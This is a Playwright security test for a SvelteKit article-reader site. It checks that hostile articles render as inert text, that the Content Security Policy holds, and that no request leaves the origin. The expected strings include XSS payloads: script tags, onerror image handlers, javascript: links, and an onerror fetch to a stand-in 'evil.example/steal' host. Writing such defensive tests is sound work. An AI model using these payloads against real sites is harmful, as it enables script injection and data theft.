import type { ChildProcess } from 'node:child_process';
import { expect, test, type Page } from '@playwright/test';
import { articleIdFor } from '../src/lib/ingest/hash.ts';
import { buildAndServe } from './support/buildSite.ts';

/**
 * A site built from hostile articles (tests/fixtures/hostile: <script> in titles, onerror images,
 * javascript: links, </script> in text, direction overrides, and a saved page with <base href>, a
 * refresh, scripts and handlers) shows all of it as text: no dialog opens, no request leaves the
 * site's origin, and the Content Security Policy is in place.
 */
const PORT = 4180;
let server: ChildProcess | undefined;

test.describe('hostile articles', () => {
	test.beforeAll(async ({}, info) => {
		info.skip(info.project.name !== 'root', 'one build of the hostile seeds is enough');
		test.setTimeout(180_000);
		({ server } = await buildAndServe('tests/fixtures/hostile', PORT));
	});

	test.afterAll(() => {
		server?.kill();
	});

	test('nothing runs, nothing leaves, the text still shows', async ({ page }) => {
		const dialogs: string[] = [];
		const foreign: string[] = [];
		page.on('dialog', async (d) => {
			dialogs.push(d.message());
			await d.dismiss();
		});
		page.on('request', (r) => {
			if (!r.url().startsWith(`http://127.0.0.1:${PORT}/`) && !r.url().startsWith('data:')) foreign.push(r.url());
		});
		await page.goto(`http://127.0.0.1:${PORT}/`);
		const csp = await page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content');
		expect(csp).toMatch(/script-src 'self'/);
		expect(csp).not.toMatch(/script-src[^;]*unsafe-inline/);

		// a mark's card shows the sentence with its markup as text
		await page.getByRole('button', { name: /Sunday/ }).first().click();
		await expect(visible(page, "onerror=\"fetch('https://evil.example/steal')\"")).toBeVisible();

		// the reader shows the whole hostile article as text
		await page.goto(`http://127.0.0.1:${PORT}/#article=${articleIdFor('evil.md')}`);
		await page.reload();
		await expect(visible(page, "<script>alert('title')</script> Talks in <img src=x onerror=alert('img')>")).toBeVisible();
		await page.getByRole('button', { name: /read the article/i }).first().click();
		await expect(visible(page, "</script><script>alert('body')</script>")).toBeVisible();
		await expect(visible(page, "{@html '<b>x</b>'} stays text")).toBeVisible();
		// a saved page with <base>, a refresh, scripts, handlers and javascript: links: its text, nothing else
		await page.goto(`http://127.0.0.1:${PORT}/#article=${articleIdFor('hostile.html')}`);
		await page.reload();
		await expect(visible(page, "Ceasefire <script>alert('og')</script> agreed in Istanbul")).toBeVisible();
		await expect(visible(page, "Hostile <img src=x onerror=alert('site')> Herald")).toBeVisible();
		await page.getByRole('button', { name: /read the article/i }).first().click();
		await expect(visible(page, 'The agreement takes effect on Friday, officials said')).toBeVisible();
		await expect(visible(page, "<script>alert('escaped')</script> written as text")).toBeVisible();
		expect(await page.getByText('injected').count()).toBe(0);
		// <base href> and a javascript: og:url are never what a relative canonical link resolves against
		expect(await page.locator('a[href*="evil.example"], a[href^="javascript:"]').count()).toBe(0);

		await page.goto(`http://127.0.0.1:${PORT}/#article=${articleIdFor('plain.txt')}`);
		await page.reload();
		await expect(visible(page, 'Standfirst </textarea><script>alert(2)</script>')).toBeVisible();
		await page.getByRole('button', { name: /read the article/i }).first().click();
		await expect(visible(page, '<a href="javascript:alert(3)">click</a>')).toBeVisible();

		// the only scripts that can run are the site's own: the articles' text reaches the page only
		// inside the JSON blocks of the data files the page fetched while prerendered (SvelteKit's
		// `data-sveltekit-fetched`), which no browser runs and whose text cannot close them
		const scripts = await page
			.locator('script')
			.evaluateAll((els) => els.filter((e) => e.getAttribute('type') !== 'application/json').map((e) => e.textContent ?? '').filter((t) => /alert\(/.test(t)));
		expect(scripts).toEqual([]);
		// (as served: SvelteKit's client removes each block once it has read it)
		const html = await (await page.request.get(page.url())).text();
		const blocks = [...html.matchAll(/<script type="application\/json"[^>]*data-url="([^"]*)"[^>]*>([\s\S]*?)<\/script>/g)].map(([, url, text]) => ({ url: url!, text: text! }));
		expect(blocks.map((b) => b.url)).toContain('/data/index.json');
		for (const b of blocks) expect(b.text).not.toMatch(/</);
		const index = JSON.parse(JSON.parse(blocks.find((b) => b.url === '/data/index.json')!.text).body);
		expect(index.counts.articles).toBe(3);
		expect(blocks.some((b) => b.text.includes('alert('))).toBe(true);
		const served = [...html.matchAll(/<script(?![^>]*application\/json)[^>]*>([\s\S]*?)<\/script>/g)].map(([, text]) => text!);
		expect(served.length).toBeGreaterThan(0);
		expect(served.filter((t) => /alert\(/.test(t))).toEqual([]);
		expect(await page.locator('img[src="x"], iframe, svg[onload], [onerror], [onmouseover]').count()).toBe(0);
		// links only ever point to http(s)
		const hrefs = await page.locator('a[href]').evaluateAll((els) => els.map((e) => (e as HTMLAnchorElement).href));
		for (const href of hrefs) expect(href).toMatch(/^https?:\/\//);
		await page.waitForTimeout(300);
		expect(dialogs).toEqual([]);
		expect(foreign).toEqual([]);
		await page.screenshot({ path: 'test-results/hostile.png', fullPage: true });
	});
});

function visible(page: Page, text: string) {
	return page.getByText(text, { exact: false }).filter({ visible: true }).first();
}
